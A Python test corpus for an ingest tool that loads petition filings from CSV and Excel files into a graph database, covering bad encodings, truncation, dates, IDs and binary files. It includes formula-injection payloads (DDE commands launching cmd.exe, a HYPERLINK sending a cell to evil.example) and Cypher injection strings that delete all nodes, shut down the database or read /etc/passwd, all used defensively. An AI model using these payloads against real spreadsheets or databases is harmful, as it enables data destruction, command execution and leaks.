"""The bad-input corpus (issue 9): each case is named, builds its files in memory and states its outcome.

A case is either a file-level fault (`error`: a phrase the clerk's message must contain; exit code 2,
nothing loaded) or a file that reads, with the filing_ids that must load and the (row, column) of every
rejected row. Rows are numbered as a spreadsheet shows them: the header is row 1. `stored` lists, for
loaded filings, the text cells that must come back from the records and the graph exactly as given
(after the one documented normalisation: outer whitespace of a cell is stripped).

    from tests.badinputs.corpus import CASES
    for case in CASES:
        args = case.write(tmp_path)  # e.g. ["…/filings.csv", "--transfers", "…/transfers.csv"]

Groups: encoding, truncation, delimiter, formula, length, control, id, date, injection, transfer,
duplicate, empty, binary, xlsx, header, mapping.
"""

from __future__ import annotations

import codecs
import io
import zipfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path

import xlsxwriter

from ingest.columns import FILING_COLUMNS, TRANSFER_COLUMNS
from ingest.read import MAX_CELL_CHARS

FILING_HEADER = tuple(c.name for c in FILING_COLUMNS)
TRANSFER_HEADER = tuple(c.name for c in TRANSFER_COLUMNS)

TEXT_FIELDS = ("receiving_org", "petitioner_name", "address", "issue_place", "category", "content")
"""Free-text cells of a filing stored as given (records and Filing node; address on the record)."""
FREE_FIELDS = (*TEXT_FIELDS, "co_petitioners", "responsible_unit")
"""Every free-text cell of a filing: any text is accepted in them."""
TRANSFER_TEXT = ("from_unit", "to_unit", "note")

BASE: dict[str, str] = {
    "filing_id": "",
    "received_date": "2024-03-01",
    "channel": "来访",
    "receiving_level": "县",
    "receiving_org": "正定县信访局",
    "petitioner_name": "张三",
    "id_number": "",
    "phone": "13800138000",
    "address": "河北省石家庄市正定县城关镇",
    "issue_place": "正定县",
    "headcount": "1",
    "co_petitioners": "",
    "category": "征地拆迁",
    "content": "征地补偿款未发放",
    "responsible_unit": "正定县自然资源局",
    "status": "办理中",
    "concluded_date": "",
    "title": "",
    "account_id": "",
    "reply": "",
}

Row = dict[str, str]


def filing(fid: str, **cells: str) -> Row:
    """A valid filings row with some cells replaced."""
    return {**BASE, "filing_id": fid, **cells}


def transfer(fid: str, seq: str = "1", **cells: str) -> Row:
    """A valid transfers row with some cells replaced."""
    base = {
        "date": "2024-03-02",
        "from_unit": "正定县信访局",
        "to_unit": "正定县自然资源局",
        "action": "交办",
    }
    return {"filing_id": fid, "seq": seq, **base, "note": "", **cells}


def table(
    rows: Iterable[Row],
    header: Sequence[str] = FILING_HEADER,
    *,
    encoding: str = "utf-8",
    delimiter: str = ",",
    newline: str = "\n",
) -> bytes:
    """Rows written as CSV in the given encoding, a cell quoted when it holds a separator, quote or line break
    (as Excel does; the csv module would leave a lone CR unquoted)."""
    lines = [[*header], *([r.get(h, "") for h in header] for r in rows)]
    return "".join(delimiter.join(_quoted(c, delimiter) for c in cells) + newline for cells in lines).encode(
        encoding
    )


def _quoted(cell: str, delimiter: str) -> str:
    if any(ch in cell for ch in (delimiter, '"', "\r", "\n")):
        return '"' + cell.replace('"', '""') + '"'
    return cell


def xlsx(
    sheets: Sequence[tuple[str, Sequence[Sequence[object]]]],
    formulas: dict[tuple[int, int], tuple[str, str]] | None = None,
) -> bytes:
    """A workbook: (sheet name, rows of cells) per sheet; formulas {(row, col): (formula, cached value)}
    go into the first sheet."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(
        buffer, {"in_memory": True, "strings_to_formulas": False, "strings_to_numbers": False}
    )
    for index, (name, rows) in enumerate(sheets):
        sheet = book.add_worksheet(name)
        for r, cells in enumerate(rows):
            for c, value in enumerate(cells):
                if isinstance(value, str):
                    sheet.write_string(r, c, value)
                else:
                    sheet.write(r, c, value)
        if index == 0:
            for (r, c), (formula, cached) in (formulas or {}).items():
                sheet.write_formula(r, c, formula, None, cached)
    book.close()
    return buffer.getvalue()


def grid(rows: Iterable[Row], header: Sequence[str] = FILING_HEADER) -> list[list[str]]:
    return [list(header), *([r.get(h, "") for h in header] for r in rows)]


@dataclass(frozen=True)
class Case:
    name: str
    group: str
    filings: bytes
    error: str = ""
    """For a file-level fault: a phrase the message must contain (exit code 2, nothing loaded)."""
    loaded: tuple[str, ...] = ()
    rejected: tuple[tuple[int, str], ...] = ()
    """(row, column) of every rejecting problem in the filings file; column "" for a whole-row fault."""
    transfers: bytes | None = None
    transfers_loaded: int = 0
    transfers_rejected: tuple[tuple[int, str], ...] = ()
    stored: tuple[Row, ...] = ()
    """filing_id plus the text cells that must be stored exactly as given (outer whitespace stripped)."""
    stored_transfers: tuple[Row, ...] = ()
    """filing_id, seq and the text cells (from_unit, to_unit, note) of loaded transfers, stored as given."""
    suffix: str = ".csv"
    mapping: bytes | None = None
    """A column-mapping file (`--mapping`), if the case has one."""

    def write(self, folder: Path) -> list[str]:
        """Write the input files into folder; return the command-line arguments naming them."""
        folder.mkdir(parents=True, exist_ok=True)
        filings = folder / f"filings{self.suffix}"
        filings.write_bytes(self.filings)
        args = [str(filings)]
        if self.transfers is not None:
            (folder / "transfers.csv").write_bytes(self.transfers)
            args += ["--transfers", str(folder / "transfers.csv")]
        if self.mapping is not None:
            (folder / "mapping.csv").write_bytes(self.mapping)
            args += ["--mapping", str(folder / "mapping.csv")]
        return args

    @property
    def rejected_rows(self) -> set[int]:
        return {row for row, _ in self.rejected}


def rows_case(
    name: str,
    group: str,
    rows: Sequence[Row],
    *,
    rejected: Sequence[tuple[int, str]] = (),
    data: bytes | None = None,
    transfers: Sequence[Row] | None = None,
    transfers_rejected: Sequence[tuple[int, str]] = (),
    suffix: str = ".csv",
) -> Case:
    """A case built from filings rows: the rows not rejected load, their text cells stored as given.

    data overrides the bytes written (another encoding, an xlsx …) of the same rows.
    """
    bad = {row for row, _ in rejected}
    kept = [r for i, r in enumerate(rows, start=2) if i not in bad]
    stored = tuple(
        {"filing_id": r["filing_id"].strip(), **{f: r[f].strip() for f in TEXT_FIELDS}} for r in kept
    )
    n_transfers = len(transfers) if transfers is not None else 0
    bad_t = {row for row, _ in transfers_rejected}
    stored_transfers = tuple(
        {k: t[k].strip() for k in ("filing_id", "seq", *TRANSFER_TEXT)}
        for i, t in enumerate(transfers or [], start=2)
        if i not in bad_t
    )
    return Case(
        name=name,
        group=group,
        filings=table(rows) if data is None else data,
        loaded=tuple(r["filing_id"].strip() for r in kept),
        rejected=tuple(rejected),
        transfers=table(transfers, TRANSFER_HEADER) if transfers is not None else None,
        transfers_loaded=n_transfers - len({r for r, _ in transfers_rejected}),
        transfers_rejected=tuple(transfers_rejected),
        stored=stored,
        stored_transfers=stored_transfers,
        suffix=suffix,
    )


def error_case(name: str, group: str, data: bytes, error: str, *, suffix: str = ".csv") -> Case:
    return Case(name=name, group=group, filings=data, error=error, suffix=suffix)


TWO = [filing("F1"), filing("F2", petitioner_name="李四", content="拖欠工资三个月")]
CHINESE = [
    filing("F1", petitioner_name="張偉", content="房屋拆遷補償不到位，“多次”反映"),
    filing("F2", petitioner_name="王芳", content="低保资格被取消，申请复查"),
]


# --- encodings -------------------------------------------------------------------------------------------

_ENCODING = [
    rows_case("utf8_no_bom", "encoding", CHINESE),
    rows_case("utf8_bom", "encoding", CHINESE, data=codecs.BOM_UTF8 + table(CHINESE)),
    rows_case("utf8_double_bom", "encoding", CHINESE, data=codecs.BOM_UTF8 * 2 + table(CHINESE)),
    rows_case("gb18030", "encoding", CHINESE, data=table(CHINESE, encoding="gb18030")),
    rows_case(
        "gb18030_four_byte_chars",
        "encoding",
        [filing("F1", petitioner_name="𠀀𪚥", content="生僻字𠮷姓反映户籍问题")],
        data=table(
            [filing("F1", petitioner_name="𠀀𪚥", content="生僻字𠮷姓反映户籍问题")], encoding="gb18030"
        ),
    ),
    rows_case("utf16_le_bom", "encoding", CHINESE, data=table(CHINESE, encoding="utf-16")),
    rows_case(
        "utf16_be_bom", "encoding", CHINESE, data=codecs.BOM_UTF16_BE + table(CHINESE, encoding="utf-16-be")
    ),
    rows_case("utf32_bom", "encoding", CHINESE, data=table(CHINESE, encoding="utf-32")),
    rows_case("crlf_line_ends", "encoding", CHINESE, data=table(CHINESE, newline="\r\n")),
    rows_case("cr_only_line_ends", "encoding", CHINESE, data=table(CHINESE, newline="\r")),
    error_case("utf16_without_bom", "encoding", table(CHINESE, encoding="utf-16-le"), "binary file"),
    error_case(
        "latin1_garbage",
        "encoding",
        b"filing_id,received_date,channel,receiving_level,petitioner_name,content\n"
        b"F1,2024-03-01,visite,comt\xe9,M\xfcller,caf\xe9 cr\xe8me \xe0 la fa\xe7on\n",
        "neither UTF-8 nor GB18030",
    ),
    error_case(
        "cp1252_smart_quotes",
        "encoding",
        table(TWO) + b"F3,2024-03-01,\xe6\x9d\xa5\xe8\xae\xbf,\xe5\x8e\xbf,x,\x93quoted\x94 \x96 dash\n",
        "UTF-8 but has damaged bytes",
    ),
    error_case(
        "utf8_with_one_gb18030_row",
        "encoding",
        table(CHINESE) + "F3,2024-03-01,来访,县,赵六,乱码行\n".encode("gb18030"),
        "UTF-8 but has damaged bytes at text line 4",
    ),
    error_case(
        "gb18030_with_one_utf8_row",
        "encoding",
        table(CHINESE, encoding="gb18030") + "F3,2024-03-01,来访,县,赵六,另一种编码\n".encode(),
        "neither UTF-8 nor GB18030",
    ),
    Case(  # Shift-JIS bytes are valid GB18030: read as mojibake, the enum cells fail and the row is rejected
        "shift_jis",
        "encoding",
        table(
            [
                filing(
                    "F1",
                    channel="来信",
                    receiving_level="県",
                    receiving_org="役所",
                    petitioner_name="山田",
                    address="東京都",
                    issue_place="東京",
                    category="苦情",
                    content="日本語の文字化けテストです",
                    responsible_unit="市役所",
                    status="",
                )
            ],
            encoding="shift_jis",
        ),
        rejected=((2, "channel"), (2, "receiving_level")),
    ),
]


# --- truncation ------------------------------------------------------------------------------------------

_FULL = table(TWO)
_TRUNCATION = [
    Case(
        "cut_mid_row",
        "truncation",
        _FULL + b"F3,2024-03-04,\xe6\x9d\xa5",
        loaded=("F1", "F2"),
        rejected=((4, ""),),
        stored=rows_case("", "", TWO).stored,
    ),
    Case(
        "cut_mid_quote",
        "truncation",
        _FULL + 'F3,2024-03-04,来访,县,正定县信访局,赵六,,,,,,,,"反映'.encode(),
        loaded=("F1", "F2"),
        rejected=((4, ""),),
    ),
    error_case(
        "cut_mid_utf8_char",
        "truncation",
        _FULL + "F3,2024-03-04,来访,县,x,赵六".encode()[:-1],
        "UTF-8 but has damaged bytes",
    ),
    error_case(
        "cut_mid_gb18030_char",
        "truncation",
        table(CHINESE, encoding="gb18030") + "F3,2024-03-04,来访,县,x,赵六".encode("gb18030")[:-1],
        "cut off",
    ),
    error_case(
        "open_quote_swallows_rows",
        "truncation",
        table([filing("F0", content='开了引号"没关')]).replace('"开了引号""没关"'.encode(), b'"open')
        + _FULL.split(b"\n", 1)[1],
        "opens a quote that is never closed",
    ),
    error_case("cut_in_header", "truncation", b"filing_id,received_date,chan", "Missing required columns"),
    Case("no_final_newline", "truncation", _FULL.rstrip(b"\n"), loaded=("F1", "F2")),
    Case(
        "short_row_in_middle",
        "truncation",
        table([TWO[0]]) + b"F9,2024-03-01\n" + _FULL.split(b"\n", 2)[2],
        loaded=("F1", "F2"),
        rejected=((3, ""),),
    ),
    Case(
        "text_after_closing_quote",
        "truncation",
        _FULL + 'F3,2024-03-04,来访,县,x,赵六,,,,,,,,"反映"问题,,,\n'.encode(),
        loaded=("F1", "F2"),
        rejected=((4, ""),),
    ),
    Case(
        "long_row_extra_cells",
        "truncation",
        _FULL + (",".join(filing("F3").values()) + ",多余,的,单元格\n").encode(),
        loaded=("F1", "F2"),
        rejected=((4, ""),),
    ),
    Case(
        "trailing_empty_cells_tolerated",
        "truncation",
        _FULL + (",".join(filing("F3").values()) + ",,,\n").encode(),
        loaded=("F1", "F2", "F3"),
    ),
]


# --- wrong delimiters ------------------------------------------------------------------------------------

_DELIMITER = [
    error_case("semicolon", "delimiter", table(TWO, delimiter=";"), "uses ';'"),
    error_case("tab", "delimiter", table(TWO, delimiter="\t"), "uses tab"),
    error_case("pipe", "delimiter", table(TWO, delimiter="|"), "uses '|'"),
    error_case(
        "semicolon_gb18030", "delimiter", table(CHINESE, delimiter=";", encoding="gb18030"), "uses ';'"
    ),
    error_case("tab_utf16", "delimiter", table(CHINESE, delimiter="\t", encoding="utf-16"), "uses tab"),
    Case(
        "semicolon_rows_under_comma_header",
        "delimiter",
        table([]) + table(TWO, delimiter=";").split(b"\n", 1)[1],
        rejected=((2, ""), (3, "")),
    ),
]


# --- spreadsheet formulas in every text field ------------------------------------------------------------

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1:A2)",
    "tab_lead": "\t=1+1",
    "cr_lead": "\r=1+1",
    "dde_cmd": "=cmd|'/c calc'!A1",
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "dde_msexcel": "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
}


def _formula_case(key: str, payload: str) -> Case:
    rows = [filing(f"F-{field}", **{field: payload}) for field in FREE_FIELDS]
    rows.append(filing(f"F-{key}-date", received_date=payload))
    transfers = [
        transfer(f"F-{FREE_FIELDS[i]}", "1", **{field: payload}) for i, field in enumerate(TRANSFER_TEXT)
    ]
    return rows_case(
        f"formula_{key}",
        "formula",
        rows,
        rejected=[(len(rows) + 1, "received_date")],
        transfers=transfers,
    )


_FORMULA = [_formula_case(k, v) for k, v in FORMULAS.items()]


# --- extreme lengths -------------------------------------------------------------------------------------

_LENGTH = [
    rows_case(
        "cell_over_limit",
        "length",
        [TWO[0], filing("F9", content="长" * (MAX_CELL_CHARS + 1)), TWO[1]],
        rejected=[(3, "content")],
    ),
    rows_case("cell_at_limit", "length", [filing("F1", content="长" * MAX_CELL_CHARS)]),
    rows_case("very_long_name", "length", [filing("F1", petitioner_name="阿" * 5000)]),
    rows_case(
        "very_long_address", "length", [filing("F1", address="河北省石家庄市正定县" + "某街" * 20_000)]
    ),
    rows_case("huge_filing_id", "length", [filing("F" * (MAX_CELL_CHARS + 5))], rejected=[(2, "filing_id")]),
    rows_case(
        "many_co_petitioners",
        "length",
        [filing("F1", co_petitioners="、".join(f"赵{i}" for i in range(3000)))],
    ),
    Case(
        "many_extra_columns",
        "length",
        table(
            [{**filing("F1"), **{f"extra{i}": "x" for i in range(5000)}}],
            (*FILING_HEADER, *(f"extra{i}" for i in range(5000))),
        ),
        loaded=("F1",),
    ),
    Case(
        "very_long_header_name",
        "length",
        table([filing("F1")], (*FILING_HEADER, "列" * 50_000)),
        loaded=("F1",),
    ),
    rows_case(
        "huge_numbers",
        "length",
        [
            filing("F1", headcount="9" * 400),
            filing("F2", headcount="1.0e20"),
            filing("F3", headcount="1e999"),
        ],
        rejected=[(2, "headcount"), (3, "headcount"), (4, "headcount")],
        transfers=[transfer("F1", "9" * 30)],
        transfers_rejected=[(2, "seq"), (2, "filing_id")],
    ),
    rows_case(
        "negative_headcount",
        "length",
        [filing("F1", headcount="-3"), filing("F2", headcount="2.5")],
        rejected=[(2, "headcount"), (3, "headcount")],
    ),
]


# --- control and invisible characters --------------------------------------------------------------------

CONTROLS = {
    "escape": "\x1b[31m红字\x1b[0m",
    "bell_backspace": "响铃\x07退格\x08",
    "zero_width": "张\u200b三\u200d\ufeff",
    "rtl_override": "\u202e反向文字\u202c",
    "vertical_tab_form_feed": "竖\x0b表\x0c格",
    "line_separator": "第一段\u2028第二段\u2029第三段",
    "non_characters": "非字符\ufffe\uffff",
    "combining_marks": "e\u0301\u0301\u0301",
}


def _control_case(key: str, text: str) -> Case:
    rows = [filing(f"C-{field}", **{field: text}) for field in TEXT_FIELDS]
    return rows_case(f"control_{key}", "control", rows)


_CONTROL = [_control_case(k, v) for k, v in CONTROLS.items()] + [
    rows_case("nul_in_cell", "control", [filing("F1", content="空\x00字节", petitioner_name="张\x00三")]),
    rows_case(
        "nul_after_first_64k",
        "control",
        [*(filing(f"F{i}") for i in range(400)), filing("G1", content="空\x00字节")],
    ),
    rows_case(
        "embedded_newlines",
        "control",
        [filing("F1", content="第一行\n第二行\r\n第三行", address="正定县\n城关镇")],
    ),
    rows_case(
        "quotes_and_commas",
        "control",
        [filing("F1", content='他说："不给钱,就不走"', petitioner_name='"李四"')],
    ),
    rows_case(
        "outer_whitespace",
        "control",
        [filing("  F1  ", content="  前后空白  ", petitioner_name="\u3000王五\u3000")],
    ),
]


# --- malformed IDs and dates -----------------------------------------------------------------------------

_ID = [
    rows_case("id_bad_checksum", "id", [filing("F1", id_number="110105194912310021")]),
    rows_case("id_15_digits", "id", [filing("F1", id_number="110105491231002")]),
    rows_case("id_17_digits", "id", [filing("F1", id_number="11010519491231002")]),
    rows_case("id_lower_x", "id", [filing("F1", id_number="11010519491231002x")]),
    rows_case("id_birth_in_future", "id", [filing("F1", id_number="110105209901010010")]),
    rows_case("id_feb_30", "id", [filing("F1", id_number="110105199002300013")]),
    rows_case("id_full_width", "id", [filing("F1", id_number="１１０１０５１９４９１２３１００２Ｘ")]),
    rows_case("id_letters", "id", [filing("F1", id_number="ABCDEFGHIJKLMNOPQR")]),
    rows_case("id_scientific_notation", "id", [filing("F1", id_number="1.10105E+17")]),
    rows_case(
        "phone_garbage",
        "id",
        [
            filing("F1", phone="无"),
            filing("F2", phone="8765432"),
            filing("F3", phone="+86 (138) 0013-8000 转 12"),
        ],
    ),
]

_DATE = [
    rows_case(
        "date_future",
        "date",
        [TWO[0], filing("F9", received_date="2999-01-01")],
        rejected=[(3, "received_date")],
    ),
    rows_case(
        "date_feb_30",
        "date",
        [filing("F9", received_date="2024-02-30"), TWO[1]],
        rejected=[(2, "received_date")],
    ),
    rows_case(
        "date_month_13", "date", [filing("F9", received_date="2024/13/01")], rejected=[(2, "received_date")]
    ),
    rows_case(
        "date_mixed_formats",
        "date",
        [
            filing("F1", received_date="2024-03-01"),
            filing("F2", received_date="2024/3/1"),
            filing("F3", received_date="2024年03月01日"),
            filing("F4", received_date="2024-03-01 00:00:00"),
            filing("F5", received_date="２０２４－０３－０１"),
        ],
    ),
    rows_case(
        "date_unsupported_formats",
        "date",
        [
            filing("F1", received_date="03/01/2024"),
            filing("F2", received_date="2024.03.01"),
            filing("F3", received_date="45352"),
            filing("F4", received_date="20240301"),
            filing("F5", received_date="2024-3"),
        ],
        rejected=[(r, "received_date") for r in range(2, 7)],
    ),
    rows_case(
        "date_year_1899", "date", [filing("F9", received_date="1899-12-31")], rejected=[(2, "received_date")]
    ),
    rows_case(
        "concluded_before_received",
        "date",
        [filing("F9", concluded_date="2024-01-01", status="已办结")],
        rejected=[(2, "concluded_date")],
    ),
    rows_case(
        "required_date_missing", "date", [filing("F9", received_date="")], rejected=[(2, "received_date")]
    ),
    rows_case(
        "unknown_enums",
        "date",
        [filing("F1", channel="飞鸽传书"), filing("F2", receiving_level="村"), filing("F3", status="搁置")],
        rejected=[(2, "channel"), (3, "receiving_level")],
    ),
]


# --- Cypher injection in every field ---------------------------------------------------------------------

INJECTIONS = {
    "detach_delete": "'}) MATCH (n) DETACH DELETE n //",
    "double_quote": '"}) MATCH (n) DETACH DELETE n //',
    "unicode_quote": "\\u0027}) MATCH (n) DETACH DELETE n //",
    "backtick": "`) MATCH (n) DETACH DELETE n //`",
    "param": "$param $filing_id {rows}",
    "call_procedure": "'; CALL dbms.shutdown(); //",
    "merge_label": "'}) MERGE (x:Evil {pwned: true}) RETURN x //",
    "block_comment": "/* */ MATCH (n) SET n.pwned = true /*",
    "load_csv": "' LOAD CSV FROM 'file:///etc/passwd' AS l CREATE (:Leak {l: l}) //",
}


def injection_case(key: str, payload: str) -> Case:
    """One case per payload: the payload in every field of the filings and transfers files.

    Row 2 carries it in every free-text cell plus the ID number and phone (flagged, loaded); row 3 uses it
    as the filing_id; row 4 puts it into the typed cells (dates, enums, headcount: rejected). Transfers:
    into the unit names and note; as filing_id (refers to row 3); as seq and action (rejected).
    """
    text = {field: payload for field in FREE_FIELDS}
    rows = [
        filing("INJ1", **text, id_number=payload, phone=payload),
        filing(payload, petitioner_name="李四"),
        filing(
            "INJ3",
            received_date=payload,
            channel=payload,
            receiving_level=payload,
            headcount=payload,
            status=payload,
            concluded_date=payload,
        ),
    ]
    transfers = [
        transfer("INJ1", "1", from_unit=payload, to_unit=payload, note=payload),
        transfer(payload, "1"),
        transfer("INJ1", payload),
        transfer("INJ1", "2", action=payload, date=payload),
    ]
    return rows_case(
        f"injection_{key}",
        "injection",
        rows,
        rejected=[
            (4, c) for c in ("received_date", "channel", "receiving_level", "headcount", "concluded_date")
        ],
        transfers=transfers,
        transfers_rejected=[(4, "seq"), (5, "date"), (5, "action")],
    )


_INJECTION = [injection_case(k, v) for k, v in INJECTIONS.items()]


# --- transfers without filings, duplicates ---------------------------------------------------------------

_TRANSFER = [
    rows_case(
        "transfer_unknown_filing",
        "transfer",
        TWO,
        transfers=[transfer("F1"), transfer("NOPE"), transfer("F2", "1")],
        transfers_rejected=[(3, "filing_id")],
    ),
    rows_case(
        "transfer_of_rejected_filing",
        "transfer",
        [TWO[0], filing("F9", received_date="2024-02-30")],
        rejected=[(3, "received_date")],
        transfers=[transfer("F1"), transfer("F9")],
        transfers_rejected=[(3, "filing_id")],
    ),
    rows_case(
        "transfers_with_no_filings",
        "transfer",
        [],
        transfers=[transfer("A1"), transfer("A2")],
        transfers_rejected=[(2, "filing_id"), (3, "filing_id")],
    ),
    rows_case(
        "transfer_bad_cells",
        "transfer",
        TWO,
        transfers=[
            transfer("F1", "一"),
            transfer("F1", "2", action="飞送"),
            transfer("F1", "3", to_unit=""),
            transfer("F1", "-4"),
        ],
        transfers_rejected=[(2, "seq"), (3, "action"), (4, "to_unit"), (5, "seq")],
    ),
]

_DUPLICATE = [
    rows_case("duplicate_identical_rows", "duplicate", [TWO[0], TWO[1], TWO[0]], rejected=[(4, "filing_id")]),
    rows_case(
        "duplicate_id_other_content",
        "duplicate",
        [TWO[0], TWO[1], filing("F1", content="另一件事")],
        rejected=[(4, "filing_id")],
    ),
    rows_case(
        "duplicate_transfer_seq",
        "duplicate",
        TWO,
        transfers=[transfer("F1", "1"), transfer("F1", "1", to_unit="正定县住建局")],
        transfers_rejected=[(3, "seq")],
    ),
    error_case(
        "duplicate_header_alias",
        "duplicate",
        table([filing("F1")], (*FILING_HEADER, "信访件编号")),
        "both mean column filing_id",
    ),
]


# --- empty, header-only, binary --------------------------------------------------------------------------

_PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4
_EMPTY = [
    error_case("zero_bytes", "empty", b"", "empty (0 bytes)"),
    error_case("only_whitespace", "empty", b"  \n\n \t\n", "no content"),
    error_case("only_bom", "empty", codecs.BOM_UTF8, "no content"),
    Case("header_only", "empty", table([])),
    Case("header_then_blank_lines", "empty", table([]) + b"\n\n,,,\n"),
    Case("header_only_gb18030", "empty", table([], encoding="gb18030")),
]
_BINARY = [
    error_case("png", "binary", _PNG, "binary file"),
    error_case("random_bytes", "binary", bytes((i * 7919 + 13) % 256 for i in range(4096)), "binary file"),
    error_case("elf", "binary", b"\x7fELF\x02\x01\x01" + b"\x00" * 500, "binary file"),
    error_case("gzip", "binary", b"\x1f\x8b\x08\x00" + bytes(range(200)), "binary file"),
    error_case("pdf", "binary", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"\x00" * 100, "PDF"),
    error_case("old_xls", "binary", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500, ".xls"),
]


def _zip_of(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr(name, data)
    return buffer.getvalue()


_BINARY.append(error_case("zip_of_csv", "binary", _zip_of("filings.csv", _FULL), "zip archive"))


# --- xlsx variants ---------------------------------------------------------------------------------------

_XROWS = [filing("F1", content="=1+1 写成文字的公式"), filing("F2", petitioner_name="李四")]
_XLSX = [
    rows_case("xlsx_plain", "xlsx", _XROWS, data=xlsx([("filings", grid(_XROWS))]), suffix=".xlsx"),
    Case(  # a formula cell reads as the value the spreadsheet shows; an error value reads as empty
        "xlsx_formula_cells",
        "xlsx",
        xlsx(
            [("filings", grid([*TWO, filing("F3")]))],
            {
                (1, FILING_HEADER.index("content")): ("=1+1", "2"),
                (2, FILING_HEADER.index("content")): ("=cmd|'/c calc'!A1", "0"),
                (3, FILING_HEADER.index("content")): ("=cmd|'/c calc'!A1", "#REF!"),
            },
        ),
        loaded=("F1", "F2"),
        rejected=((4, "content"),),
        stored=({"filing_id": "F1", "content": "2"}, {"filing_id": "F2", "content": "0"}),
        suffix=".xlsx",
    ),
    error_case(
        "xlsx_empty_sheet",
        "xlsx",
        xlsx([("Sheet1", [])]),
        "first sheet of the workbook is empty",
        suffix=".xlsx",
    ),
    error_case(
        "xlsx_wrong_sheet_first",
        "xlsx",
        xlsx([("说明", [["本表为信访件台账，请见第二个工作表"]]), ("filings", grid(TWO))]),
        "Missing required columns",
        suffix=".xlsx",
    ),
    error_case("xlsx_truncated", "xlsx", xlsx([("filings", grid(TWO))])[:600], "damaged", suffix=".xlsx"),
    error_case("xlsx_name_but_csv_text", "xlsx", _FULL, "not an Excel workbook", suffix=".xlsx"),
    Case(
        "xlsx_numbers_and_dates",
        "xlsx",
        xlsx(
            [
                (
                    "filings",
                    [
                        list(FILING_HEADER),
                        [
                            "F1",
                            "2024-03-01",
                            "来访",
                            "县",
                            "",
                            "张三",
                            "",
                            13800138000.0,
                            "",
                            "",
                            6.0,
                            "",
                            "",
                            "内容",
                        ],
                    ],
                )
            ]
        ),
        loaded=("F1",),
        suffix=".xlsx",
    ),
    Case(
        "xlsx_blank_rows_between",
        "xlsx",
        xlsx([("filings", [list(FILING_HEADER), grid([TWO[0]])[1], [], [], grid([TWO[1]])[1]])]),
        loaded=("F1", "F2"),
        suffix=".xlsx",
    ),
    Case(
        "xlsx_injection_text",
        "xlsx",
        xlsx(
            [
                (
                    "filings",
                    grid(
                        [
                            filing(
                                "X1", content=INJECTIONS["detach_delete"], petitioner_name=FORMULAS["dde_cmd"]
                            )
                        ]
                    ),
                )
            ]
        ),
        loaded=("X1",),
        stored=(
            {
                "filing_id": "X1",
                "content": INJECTIONS["detach_delete"],
                "petitioner_name": FORMULAS["dde_cmd"],
            },
        ),
        suffix=".xlsx",
    ),
]


# --- headers ---------------------------------------------------------------------------------------------

_ZH_HEADER = tuple(c.alias_zh for c in FILING_COLUMNS)
_HEADER = [
    rows_case(
        "chinese_headers",
        "header",
        CHINESE,
        data=table(CHINESE, FILING_HEADER).replace(
            ",".join(FILING_HEADER).encode(), ",".join(_ZH_HEADER).encode(), 1
        ),
    ),
    rows_case(
        "header_odd_case_and_spaces",
        "header",
        TWO,
        data=table(TWO).replace(b"filing_id,received_date", b" Filing ID , RECEIVED-DATE ", 1),
    ),
    error_case(
        "missing_required_column",
        "header",
        table(TWO, tuple(h for h in FILING_HEADER if h != "content")),
        "content (主要内容)",
    ),
    error_case("header_is_data", "header", _FULL.split(b"\n", 1)[1], "Missing required columns"),
    error_case(
        "escape_codes_in_header",
        "header",
        b"\x1b[31mfiling_id,received_date,channel,receiving_level,petitioner_name,\x1b]0;pwned\x07content2\n",
        "The header is: [31mfiling_id, received_date, channel, receiving_level, petitioner_name, "
        "]0;pwnedcontent2.",
    ),
    Case(
        "unknown_extra_column",
        "header",
        table([{**filing("F1"), "备注2": "x"}], (*FILING_HEADER, "备注2")),
        loaded=("F1",),
    ),
]


# --- column-mapping files -------------------------------------------------------------------------------

_RENAMED = table(TWO).replace(b"filing_id,", "来信编号,".encode(), 1)
_MAPPING = [
    Case(
        "mapping_renames_a_header",
        "mapping",
        _RENAMED,
        loaded=("F1", "F2"),
        mapping="原表头,标准列\n来信编号,filing_id\n".encode("gb18030"),
    ),
    Case(
        "mapping_unknown_column", "mapping", _RENAMED, error="unknown column", mapping=b"x,no_such_column\n"
    ),
    Case(
        "mapping_one_cell",
        "mapping",
        _RENAMED,
        error="must have two cells",
        mapping=b"source_header,column\nx\n",
    ),
    Case("mapping_empty", "mapping", _RENAMED, error="column-mapping file is empty", mapping=b""),
    Case("mapping_binary", "mapping", _RENAMED, error="binary file", mapping=_PNG),
]


CASES: tuple[Case, ...] = tuple(
    _ENCODING
    + _TRUNCATION
    + _DELIMITER
    + _FORMULA
    + _LENGTH
    + _CONTROL
    + _ID
    + _DATE
    + _INJECTION
    + _TRANSFER
    + _DUPLICATE
    + _EMPTY
    + _BINARY
    + _XLSX
    + _HEADER
    + _MAPPING
)
"""Every case of the corpus, in group order; names are unique."""
